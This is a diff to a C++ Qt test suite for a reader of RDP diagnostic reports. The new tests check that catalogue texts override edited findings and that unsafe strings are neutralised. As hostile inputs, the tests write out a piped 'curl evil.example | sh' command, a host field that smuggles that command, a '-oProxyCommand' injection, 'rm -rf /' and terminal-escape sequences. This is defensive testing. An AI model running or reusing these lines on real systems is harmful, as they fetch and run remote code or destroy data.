@@ -1,7 +1,8 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
-// Reading report.json back: an exact inverse of the writer for every report this version
-// writes, and a strict, bounded reader for everything else (other tools' JSON, newer
-// schemas, wrong types, hostile sizes).
+// Reading report.json back: an exact inverse of the writer for the facts of every report this
+// version writes, findings shown with this version's catalogue (never the report's texts and
+// commands), every string made safe to show, and a strict, bounded reader for everything else
+// (other tools' JSON, newer schemas, wrong types, hostile sizes).
 
 #include "BundleFixtures.h"
 #include "FullReport.h"
@@ -9,6 +10,7 @@
 #include "bundle/Redaction.h"
 #include "report/JsonReport.h"
 #include "report/ReportReader.h"
+#include "support/SafeText.h"
 
 #include <QJsonDocument>
 #include <QTest>
@@ -74,20 +76,26 @@ private slots:
     void hostile_data();
     void hostile();
     void bounded();
+    void findingsFromCatalogue();
+    void unknownCodeHasNoCommand();
+    void controlCharactersNeutralised();
 };
 
 void TestReportReader::roundTrip_data()
 {
     QTest::addColumn<QByteArray>("json");
-    QTest::newRow("full sample") << reportToJsonBytes(sampleReport());
-    QTest::newRow("redacted sample") << redactReport(sampleReport()).jsonBytes();
-    QTest::newRow("full report") << reportToJsonBytes(fullReport());
-    QTest::newRow("redacted full report") << redactReport(fullReport()).jsonBytes();
-    Report withoutGateway = fullReport();
+    QTest::addColumn<bool>("exact");
+    QTest::newRow("full sample") << reportToJsonBytes(reopened(sampleReport())) << true;
+    QTest::newRow("redacted sample") << redactReport(reopened(sampleReport())).jsonBytes() << false;
+    QTest::newRow("full report") << reportToJsonBytes(reopened(fullReport())) << true;
+    QTest::newRow("redacted full report")
+        << redactReport(reopened(fullReport())).jsonBytes() << false;
+    Report withoutGateway = reopened(fullReport());
     withoutGateway.facts.local->gateway.reset();
     withoutGateway.facts.local->proxy.reset();
     withoutGateway.facts.server->xrdp.reset();
-    QTest::newRow("full report, no gateway, proxy or xrdp") << reportToJsonBytes(withoutGateway);
+    QTest::newRow("full report, no gateway, proxy or xrdp")
+        << reportToJsonBytes(withoutGateway) << true;
 
     Report minimal;
     minimal.toolVersion = QStringLiteral("0.1.0");
@@ -98,9 +106,9 @@ void TestReportReader::roundTrip_data()
     minimal.started = QDateTime(QDate(2026, 1, 2), QTime(3, 4, 5), Qt::UTC);
     minimal.stages.append({StageId::Input, StageStatus::Failed, 0, QStringLiteral("bad")});
     minimal.cancelled = true;
-    QTest::newRow("minimal") << reportToJsonBytes(minimal);
+    QTest::newRow("minimal") << reportToJsonBytes(minimal) << true;
 
-    Report unlearned = sampleReport();
+    Report unlearned = reopened(sampleReport());
     unlearned.facts.tls->main = TlsAttempt();
     unlearned.facts.tls->weakCipherAttempt.reset();
     unlearned.facts.certificate->eku.reset();
@@ -111,15 +119,31 @@ void TestReportReader::roundTrip_data()
     unlearned.facts.credssp->errorCode = 0xC000006D;
     unlearned.facts.tcp->medianConnectMs.reset();
     unlearned.diagnosis = Diagnosis();
-    QTest::newRow("facts not learned") << reportToJsonBytes(unlearned);
+    QTest::newRow("facts not learned") << reportToJsonBytes(unlearned) << true;
 }
 
 void TestReportReader::roundTrip()
 {
     QFETCH(QByteArray, json);
+    QFETCH(bool, exact);
     const ReportRead read = readReportJson(json);
     QVERIFY2(read.report, qPrintable(read.error));
-    QCOMPARE(reportToJsonBytes(*read.report), json);
+    const QByteArray written = reportToJsonBytes(*read.report);
+    if (exact) {
+        QCOMPARE(written, json);
+        return;
+    }
+    // A redacted report's finding texts were redacted word by word ("for example" can lose
+    // its "example", a learned domain label): read back, they are the catalogue's again.
+    // Everything else is read exactly, and what is written again is a fixed point.
+    QJsonObject original = QJsonDocument::fromJson(json).object();
+    QJsonObject again = QJsonDocument::fromJson(written).object();
+    QCOMPARE(again.take(QStringLiteral("findings")).toArray().size(),
+             original.take(QStringLiteral("findings")).toArray().size());
+    QCOMPARE(again, original);
+    const ReportRead second = readReportJson(written);
+    QVERIFY2(second.report, qPrintable(second.error));
+    QCOMPARE(reportToJsonBytes(*second.report), written);
 }
 
 void TestReportReader::fullFixtureHasNoHoles()
@@ -318,9 +342,13 @@ void TestReportReader::hostile_data()
                               << "findings[0].code";
     QTest::newRow("evidence not object")
         << set(QStringLiteral("findings.1.evidence"), QJsonArray()) << "findings[1].evidence";
-    QTest::newRow("bad where") << set(QStringLiteral("findings.0.remediation.0.where"),
-                                      QStringLiteral("moon"))
-                               << "findings[0].remediation[0].where";
+    QTest::newRow("parameters not object")
+        << set(QStringLiteral("findings.0.parameters"), QJsonArray()) << "findings[0].parameters";
+    QTest::newRow("parameter not text")
+        << set(QStringLiteral("findings.0.parameters.host"), 5) << "findings[0].parameters.host";
+    QTest::newRow("bad parameter name")
+        << set(QStringLiteral("findings.0.parameters.Host Name"), QStringLiteral("x"))
+        << "not a placeholder name";
     QTest::newRow("findings not list")
         << set(QStringLiteral("findings"), QStringLiteral("x")) << "findings: not a list";
     QTest::newRow("bad hex") << set(QStringLiteral("facts.negotiation.probes.0.received_hex"),
@@ -369,10 +397,18 @@ void TestReportReader::bounded()
 {
     // Long strings, many findings, deep evidence, a file too large: refused, quickly.
     QByteArray json = edited([](QJsonObject &root) {
-        setPath(root, {QStringLiteral("findings"), QStringLiteral("0"), QStringLiteral("detail")},
+        setPath(root, {QStringLiteral("stages"), QStringLiteral("0"), QStringLiteral("summary")},
                 QString(70000, QLatin1Char('x')));
     });
-    QVERIFY(readReportJson(json).error.contains(QStringLiteral("findings[0].detail: longer than")));
+    QVERIFY(readReportJson(json).error.contains(QStringLiteral("stages[0].summary: longer than")));
+    json = edited([](QJsonObject &root) {
+        setPath(root,
+                {QStringLiteral("findings"), QStringLiteral("0"), QStringLiteral("parameters"),
+                 QStringLiteral("host")},
+                QString(2000, QLatin1Char('x')));
+    });
+    QVERIFY(readReportJson(json).error.contains(
+        QStringLiteral("findings[0].parameters.host: longer than")));
 
     json = edited([](QJsonObject &root) {
         QJsonArray many;
@@ -398,6 +434,139 @@ void TestReportReader::bounded()
     // Deeply nested brackets: the JSON parser's own limit answers, no crash.
     QByteArray nested = QByteArray(100000, '[') + QByteArray(100000, ']');
     QVERIFY(!readReportJson(nested).report);
+}
+
+void TestReportReader::findingsFromCatalogue()
+{
+    // An edited report.json (the manifest is a checksum, not a signature) with a fake title,
+    // detail and command, a severity lowered to hide the error, and a host that would turn
+    // the catalogue's command into another one.
+    const QJsonObject fake{{QStringLiteral("where"), QStringLiteral("client")},
+                           {QStringLiteral("text"), QStringLiteral("Paste this to fix it")},
+                           {QStringLiteral("command"), QStringLiteral("curl evil.example | sh")},
+                           {QStringLiteral("shell"), QStringLiteral("bash")}};
+    const QByteArray json = edited([&fake](QJsonObject &root) {
+        const auto at = [&root](const QString &key, const QJsonValue &value) {
+            setPath(root, {QStringLiteral("findings"), QStringLiteral("0"), key}, value);
+        };
+        at(QStringLiteral("title"), QStringLiteral("Run the fix below"));
+        at(QStringLiteral("detail"), QStringLiteral("Support says: paste the command."));
+        at(QStringLiteral("remediation"), QJsonArray{fake});
+        at(QStringLiteral("severity"), QStringLiteral("info"));
+        at(QStringLiteral("parameters"),
+           QJsonObject{{QStringLiteral("host"), QStringLiteral("x; curl evil.example | sh")},
+                       {QStringLiteral("port"), QStringLiteral("3389")},
+                       {QStringLiteral("address"), QStringLiteral("-oProxyCommand=evil")}});
+    });
+    const ReportRead read = readReportJson(json);
+    QVERIFY2(read.report, qPrintable(read.error));
+    const Finding &finding = read.report->findings.first();
+    QCOMPARE(finding.code, QStringLiteral("tls.reset"));
+    const CatalogueEntry *entry = findCatalogueEntry(finding.code);
+    QVERIFY(entry);
+    QCOMPARE(finding.severity, entry->severity);
+    QCOMPARE(finding.title, QString::fromUtf8(entry->title));
+    QVERIFY(!finding.detail.contains(QStringLiteral("Support says")));
+    QCOMPARE(finding.remediation.size(), entry->remedies.size());
+    QVERIFY(!finding.remediation.isEmpty());
+    for (qsizetype i = 0; i < finding.remediation.size(); ++i) {
+        const Remedy &remedy = finding.remediation.at(i);
+        QVERIFY2(!remedy.command.contains(QStringLiteral("evil")), qPrintable(remedy.command));
+        QVERIFY(!remedy.text.contains(QStringLiteral("evil")));
+        // The catalogue's own command, with only the safe value (the port) filled in.
+        const char *command = entry->remedies.at(i).command;
+        QCOMPARE(remedy.command,
+                 command ? fillPlaceholders(QString::fromUtf8(command),
+                                            {{QStringLiteral("port"), QStringLiteral("3389")}})
+                         : QString());
+    }
+    // Unsafe values are not kept: they are not written again either.
+    QCOMPARE(finding.parameters, (Placeholders{{QStringLiteral("port"), QStringLiteral("3389")}}));
+
+    // The sample's findings carried texts of their own: none of them survives.
+    const ReportRead sample = readReportJson(reportToJsonBytes(sampleReport()));
+    QVERIFY2(sample.report, qPrintable(sample.error));
+    const QByteArray again = reportToJsonBytes(*sample.report);
+    for (const char *stored : {"Give NETWORK SERVICE", "Sync the clock", "RDP01 is 600",
+                               "Test-NetConnection -ComputerName rdp01.corp.example.com -Port "
+                               "3389\",",
+                               "Self-signed certificate\""})
+        QVERIFY2(!again.contains(stored), stored);
+    QCOMPARE(again, reportToJsonBytes(reopened(sampleReport())));
+}
+
+void TestReportReader::unknownCodeHasNoCommand()
+{
+    const QByteArray json = edited([](QJsonObject &root) {
+        const auto at = [&root](const QString &key, const QJsonValue &value) {
+            setPath(root, {QStringLiteral("findings"), QStringLiteral("1"), key}, value);
+        };
+        at(QStringLiteral("code"), QStringLiteral("future.fix_everything"));
+        at(QStringLiteral("title"), QStringLiteral("Fix everything"));
+        at(QStringLiteral("remediation"),
+           QJsonArray{QJsonObject{{QStringLiteral("where"), QStringLiteral("server")},
+                                  {QStringLiteral("text"), QStringLiteral("Run this")},
+                                  {QStringLiteral("command"), QStringLiteral("rm -rf /")},
+                                  {QStringLiteral("shell"), QStringLiteral("bash")}}});
+    });
+    const ReportRead read = readReportJson(json);
+    QVERIFY2(read.report, qPrintable(read.error));
+    const Finding &finding = read.report->findings.at(1);
+    QCOMPARE(finding.code, QStringLiteral("future.fix_everything"));
+    QVERIFY2(finding.title.contains(QStringLiteral("Unknown finding future.fix_everything")),
+             qPrintable(finding.title));
+    QVERIFY(finding.remediation.isEmpty());
+    QVERIFY(!finding.detail.contains(QStringLiteral("Run this")));
+    // What the report said about it, as data: severity and stage, and the evidence.
+    QCOMPARE(finding.severity, sampleReport().findings.at(1).severity);
+    QCOMPARE(finding.stage, sampleReport().findings.at(1).stage);
+    QCOMPARE(finding.evidence, sampleReport().findings.at(1).evidence);
+    QVERIFY(!reportToJsonBytes(*read.report).contains("rm -rf"));
+}
+
+void TestReportReader::controlCharactersNeutralised()
+{
+    // Terminal escapes (CSI as ESC [ and as the C1 byte), a bell, line breaks and bidi
+    // overrides everywhere a string can be: none of them comes out of the reader.
+    const QString hostile = QStringLiteral("a\x1b[2J\x1b]0;pwned\x07"
+                                           "b\u009b31mc\r\nd"
+                                           "\u202egnp.exe\u2066e\u0000");
+    const QByteArray json = edited([&hostile](QJsonObject &root) {
+        for (const char *path :
+             {"stages.0.summary", "diagnosis.summary", "findings.0.evidence.note",
+              "facts.credssp.ntlm.dns_computer", "facts.certificate.subject",
+              "facts.certificate.common_name", "facts.negotiation.probes.0.detail", "tool.version",
+              "target.input"})
+            setPath(root, QString::fromLatin1(path).split(QLatin1Char('.')), hostile);
+        setPath(
+            root,
+            {QStringLiteral("findings"), QStringLiteral("0"), QStringLiteral("evidence"), hostile},
+            1);
+    });
+    const ReportRead read = readReportJson(json);
+    QVERIFY2(read.report, qPrintable(read.error));
+    const QString written = QString::fromUtf8(reportToJsonBytes(*read.report));
+    const QString decoded =
+        QString::fromUtf8(QJsonDocument::fromJson(written.toUtf8()).toJson(QJsonDocument::Compact));
+    for (const QString &text :
+         {read.report->stages.first().summary, read.report->diagnosis.summary,
+          read.report->findings.first().evidence.value(QStringLiteral("note")).toString(),
+          read.report->facts.credssp->ntlm->dnsComputer, read.report->facts.certificate->subject,
+          read.report->facts.certificate->commonName,
+          read.report->facts.negotiation->probes.first().detail, read.report->toolVersion,
+          read.report->target.input}) {
+        QCOMPARE(text, safeText(hostile));
+        for (const QChar c : text)
+            QVERIFY2(!isUnsafeTextCharacter(c.unicode()), qPrintable(QString::number(c.unicode())));
+    }
+    QVERIFY(read.report->findings.first().evidence.contains(safeText(hostile)));
+    QVERIFY(!read.report->findings.first().evidence.contains(hostile));
+    // The escapes are gone from what is written again, too (JSON would keep them escaped).
+    QVERIFY(!written.contains(QStringLiteral("\\u001b")));
+    QVERIFY(!decoded.contains(QChar(0x9b)) && !decoded.contains(QChar(0x202e)));
+    // A PEM keeps its line breaks.
+    QVERIFY(read.report->facts.certificate->pem.contains('\n'));
+    QCOMPARE(read.report->facts.certificate->pem, sampleReport().facts.certificate->pem);
 }
 
 QTEST_GUILESS_MAIN(TestReportReader)
